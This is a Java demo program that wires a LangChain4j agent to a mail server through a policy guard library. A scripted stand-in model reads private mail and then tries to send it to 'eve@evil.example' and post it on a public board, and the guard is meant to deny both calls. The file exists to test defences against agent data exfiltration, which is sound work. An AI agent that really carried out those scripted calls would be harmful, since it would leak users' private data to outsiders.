package com.example;

import dev.langchain4j.agent.tool.Tool;
import dev.langchain4j.agent.tool.ToolExecutionRequest;
import dev.langchain4j.data.message.AiMessage;
import dev.langchain4j.data.message.ToolExecutionResultMessage;
import dev.langchain4j.mcp.McpToolProvider;
import dev.langchain4j.mcp.client.DefaultMcpClient;
import dev.langchain4j.mcp.client.McpClient;
import dev.langchain4j.mcp.client.transport.McpTransport;
import dev.langchain4j.mcp.client.transport.stdio.StdioMcpTransport;
import dev.langchain4j.memory.chat.MessageWindowChatMemory;
import dev.langchain4j.model.chat.ChatModel;
import dev.langchain4j.model.chat.request.ChatRequest;
import dev.langchain4j.model.chat.response.ChatResponse;
import dev.langchain4j.service.AiServices;
import dev.langchain4j.service.MemoryId;
import dev.langchain4j.service.UserMessage;
import dev.sluice.guard.client.Enforcement;
import dev.sluice.langchain4j.AgentGuard;
import java.nio.file.Path;
import java.util.ArrayDeque;
import java.util.Deque;
import java.util.List;

/** Reads private data from a server, and fails to send it through that server and through a function of its own. */
public final class LangChainAgent {

    /** What the agent is to the program. */
    interface Assistant {
        String chat(@MemoryId String conversation, @UserMessage String text);
    }

    /** A function of the agent itself. */
    static final class Board {

        @Tool("posts a text where all can read it")
        String post(String text) {
            return "posted";
        }
    }

    /** Calls one tool after the other, whatever they answer, and prints the answers. */
    private static final class ScriptedModel implements ChatModel {

        private final Deque<ToolExecutionRequest> script = new ArrayDeque<>();

        ScriptedModel call(String tool, String arguments) {
            script.add(ToolExecutionRequest.builder()
                    .id(tool)
                    .name(tool)
                    .arguments(arguments)
                    .build());
            return this;
        }

        @Override
        public ChatResponse doChat(ChatRequest request) {
            var messages = request.messages();
            if (messages.get(messages.size() - 1) instanceof ToolExecutionResultMessage answer) {
                String tool = answer.toolName();
                String text = answer.text();
                System.out.println(tool + ": " + (text.contains("sluice denied `" + tool + "`") ? "denied" : text));
            }
            ToolExecutionRequest next = script.poll();
            return ChatResponse.builder()
                    .aiMessage(next == null ? AiMessage.from("done") : AiMessage.from(next))
                    .build();
        }
    }

    private LangChainAgent() {}

    public static void main(String[] args) throws Exception {
        System.out.println("LangChain4j on Java " + Runtime.version().feature());
        Path policy = Path.of(LangChainAgent.class.getResource("/policy.yaml").toURI());
        McpTransport server = StdioMcpTransport.builder()
                .command(List.of(
                        Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                        "-cp",
                        System.getProperty("mail-server"),
                        "com.example.MailServer"))
                .build();
        try (Enforcement enforcement = Enforcement.of(policy)) {
            AgentGuard guard = AgentGuard.of(enforcement);
            McpClient mail = DefaultMcpClient.builder()
                    .transport(guard.transport("mail", server))
                    .build();
            Assistant assistant = AiServices.builder(Assistant.class)
                    .chatModel(new ScriptedModel()
                            .call("read", "{}")
                            .call("send", "{\"to\":\"eve@evil.example\",\"body\":\"dentist on Friday\"}")
                            .call("post", "{\"text\":\"dentist on Friday\"}"))
                    .chatMemoryProvider(id -> MessageWindowChatMemory.withMaxMessages(50))
                    .toolProvider(McpToolProvider.builder()
                            .mcpClients(mail)
                            .toolWrapper(guard::tool)
                            .build())
                    .tools(guard.tools("local", new Board()))
                    .build();
            System.out.println(assistant.chat("one", "What is new?"));
            mail.close();
        }
    }
}
